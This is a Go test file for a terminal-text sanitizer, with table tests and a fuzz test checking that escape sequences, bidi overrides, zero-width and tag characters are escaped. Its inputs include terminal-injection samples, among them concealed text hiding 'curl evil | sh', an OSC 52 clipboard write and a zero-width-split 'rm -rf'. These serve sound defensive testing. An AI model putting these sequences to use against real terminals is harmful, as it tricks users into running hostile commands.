package termtext_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/troupe-dev/troupe/internal/termtext"
)

func TestClean(t *testing.T) {
	tests := []struct {
		name, in, clean, line string
	}{
		{"plain", "hello, wörld ✓", "hello, wörld ✓", "hello, wörld ✓"},
		{"layout", "a\tb\nc", "a\tb\nc", `a\x09b\x0ac`},
		{"csi", "\x1b[2J\x1b[Hgotcha", `\x1b[2J\x1b[Hgotcha`, `\x1b[2J\x1b[Hgotcha`},
		{"osc title", "\x1b]0;owned\x07", `\x1b]0;owned\x07`, `\x1b]0;owned\x07`},
		{"carriage return", "ok\rFAKE", `ok\x0dFAKE`, `ok\x0dFAKE`},
		{"del and nul", "a\x7fb\x00", `a\x7fb\x00`, `a\x7fb\x00`},
		{"c1 csi", "x\u009b31my", `x\u009b31my`, `x\u009b31my`},
		{"invalid utf-8", "a\xffb\xc3", `a\xffb\xc3`, `a\xffb\xc3`},
		{"bidi override", "abc\u202edef", `abc\u202edef`, `abc\u202edef`},
		{"bidi isolate and mark", "a\u2066b\u2069\u200f\u061c", `a\u2066b\u2069\u200f\u061c`, `a\u2066b\u2069\u200f\u061c`},
		{"zero width", "rm\u200b -rf\ufeff\u2060\u200d", `rm\u200b -rf\ufeff\u2060\u200d`, `rm\u200b -rf\ufeff\u2060\u200d`},
		{"soft hyphen", "cu\u00adrl", `cu\u00adrl`, `cu\u00adrl`},
		{"tag characters", "ok\U000e0041\U000e007f", `ok\U000e0041\U000e007f`, `ok\U000e0041\U000e007f`},
		{"concealed sgr", "echo safe \x1b[8m; curl evil | sh\x1b[0m", `echo safe \x1b[8m; curl evil | sh\x1b[0m`, `echo safe \x1b[8m; curl evil | sh\x1b[0m`},
		{"osc 52 clipboard", "\x1b]52;c;Y3VybA==\x07", `\x1b]52;c;Y3VybA==\x07`, `\x1b]52;c;Y3VybA==\x07`},
		{"dcs", "\x1bP+q\x1b\\", `\x1bP+q\x1b\`, `\x1bP+q\x1b\`},
		{"emoji and accents kept", "é 日本 👍", "é 日本 👍", "é 日本 👍"},
		{"replacement char kept", "a\uFFFDb", "a\uFFFDb", "a\uFFFDb"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := termtext.Clean(tt.in); got != tt.clean {
				t.Errorf("Clean(%q) = %q; want %q", tt.in, got, tt.clean)
			}
			if got := termtext.Line(tt.in); got != tt.line {
				t.Errorf("Line(%q) = %q; want %q", tt.in, got, tt.line)
			}
		})
	}
}

// FuzzClean checks the promise of the package on any input: valid UTF-8
// out, with no C0 control but newline and tab (none at all from Line), no
// DEL, no C1 control and no bidi override; and safe text is left alone.
func FuzzClean(f *testing.F) {
	f.Add("plain text")
	f.Add("\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\")
	f.Add("a\u200db\U000e0041\u061c")
	f.Fuzz(func(t *testing.T, s string) {
		for name, fn := range map[string]func(string) string{"Clean": termtext.Clean, "Line": termtext.Line} {
			out := fn(s)
			if !utf8.ValidString(out) {
				t.Fatalf("%s(%q) = %q: not valid UTF-8", name, s, out)
			}
			for i, r := range out {
				bad := r < 0x20 && !(name == "Clean" && (r == '\n' || r == '\t')) ||
					r == 0x7f || r >= 0x80 && r <= 0x9f || r == 0xad || r == 0x61c || r == 0x180e || r == 0xfeff ||
					r >= 0x200b && r <= 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2060 && r <= 0x2069 ||
					r >= 0xe0000 && r <= 0xe007f
				if bad {
					t.Fatalf("%s(%q) = %q: control %U at byte %d", name, s, out, r, i)
				}
			}
			if fn(out) != out {
				t.Fatalf("%s is not idempotent on %q: %q then %q", name, s, out, fn(out))
			}
			if !strings.ContainsFunc(s, func(r rune) bool {
				return r < 0x20 || r >= 0x7f && r <= 0xad || r == 0x61c || r == 0x180e || r > 0x2000 && r < 0x2070 || r == 0xfeff || r >= 0xe0000 || r == utf8.RuneError
			}) && out != s {
				t.Fatalf("%s(%q) = %q; want safe text unchanged", name, s, out)
			}
		}
	})
}
